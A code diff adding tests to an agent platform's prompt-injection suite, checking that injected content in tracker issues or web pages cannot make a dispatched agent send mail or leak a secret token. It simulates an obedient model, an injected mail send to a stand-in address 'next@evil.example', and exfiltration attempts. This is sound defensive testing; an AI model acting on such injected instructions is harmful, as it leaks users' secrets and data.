@@ -3,13 +3,15 @@ import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { turn, type LlmRequest } from '../execution/testing/fake-llm/script.ts';
 import { DISGUISES } from './injection/disguises.ts';
-import type { InjectionCase } from './injection/injection-case.ts';
+import { send, type InjectionCase } from './injection/injection-case.ts';
 import { OTHER_SITES } from './injection/other-sites.ts';
 import { SECRETS } from './injection/secrets.ts';
 import { WRITES } from './injection/writes.ts';
 import { chatWorld, newSite, TRACKER_SECRET, type ChatWorld, type Site } from './testing/chat-world.ts';
 
 const CASES = [...WRITES, ...SECRETS, ...OTHER_SITES, ...DISGUISES];
+/** Those that want a mail sent, for which there is a standing approval. */
+const DISPATCHED = CASES.filter(({ obeys }) => obeys.some(({ name }) => name === 'mail__send'));
 /** Tools that only read, whoever asks for them. */
 const READING = new Set(['mail.inbox', 'web.read_page', 'tracker.list_issues']);
 const REFUSALS = new Set([
@@ -139,9 +141,55 @@ describe('a model that obeys whatever it reads', () => {
       for (const text of handedOut) expect(text).not.toContain(Buffer.from(TRACKER_SECRET).toString(encoding));
   });
 
+  it.each(DISPATCHED)('$name: gets no further as a task that somebody dispatched', async (each) => {
+    const { llm, forge, tracker, mail } = world;
+    const before = llm.requests.length;
+    const source = each.from === 'page' ? web : tracker;
+    source.answer = () => each.content;
+    for (const { seen } of [tracker, mail, web]) seen.length = 0;
+    llm.script(obedient(each));
+    const agentId = `agent-${DISPATCHED.indexOf(each)}`;
+    const asked = { message: `Have a look. ${TRACKER_SECRET}`, systemPrompt: `Key: ${TRACKER_SECRET}`, agentId };
+    const files = { 'AGENTS.md': `The token is ${TRACKER_SECRET}.` };
+    const { body } = await forge.request('POST', '/api/v2/dispatch', { ...asked, workspaceFiles: files, wait: true });
+
+    expect(body.status).toBe('ok');
+    for (const { seen } of [tracker, mail, web]) expect(seen.filter((line) => !line.startsWith('GET '))).toEqual([]);
+    expect(existsSync(noteFile)).toBe(false);
+    const waiting = forge.services.calls.approvals.list({ status: 'pending' });
+    const own = waiting.filter(({ kind, caller }) => kind === 'call' && caller === `dispatch ${agentId}`);
+    expect(own.length).toBeGreaterThan(0);
+    for (const { tool_id, read_from } of own) {
+      const isSameSite = source === tracker && tool_id === 'tracker.add_comment';
+      expect([tool_id, read_from]).toEqual([tool_id, isSameSite ? null : [source.host]]);
+    }
+    const requests = llm.requests.slice(before);
+    const [foreign] = requests.flatMap(({ messages }) => messages.filter(({ role }) => role === 'tool'));
+    const mark = /^<(data-[0-9a-f]{12}) from="[\w.]+">\n[\s\S]*\n<\/\1>$/.exec(foreign!.text)?.[1];
+    expect(requests[0]!.system).toContain(`<${mark} from="…">`);
+    expect(JSON.stringify(requests.map(({ system, messages }) => [system, messages[0]]))).not.toContain(TRACKER_SECRET);
+  });
+
+  it('is remembered by the session of a task: what one has read holds for the next', async () => {
+    const { llm, forge, mail, tracker } = world;
+    tracker.answer = () => WRITES[0]!.content;
+    const dispatch = (message: string, sessionId: string) =>
+      forge.request('POST', '/api/v2/dispatch', { message, sessionId, agentId: 'twice', wait: true });
+    llm.script([turn.tools({ name: 'tracker__list_issues', args: {} }), turn.text('Read.')]);
+    await dispatch('Read', 'shared');
+    mail.seen.length = 0;
+    llm.script([turn.tools(send('next@evil.example')), turn.text('Asked.')]);
+    await dispatch('Send', 'shared');
+    expect(mail.seen).toEqual([]);
+    llm.script([turn.tools(send('next@x.example')), turn.text('Sent.')]);
+    await dispatch('Send', 'another');
+    expect(mail.seen).toHaveLength(1);
+  });
+
   it('would have written, had the person said yes: the reason names what was read', async () => {
     const { llm, mail, tracker, newSession, say, waiting, decide, ended } = world;
     tracker.answer = () => WRITES[0]!.content;
+    mail.seen.length = 0;
     llm.script(obedient(WRITES[0]!));
     const id = await newSession();
     const { body } = await say(id, 'Have a look, please.');
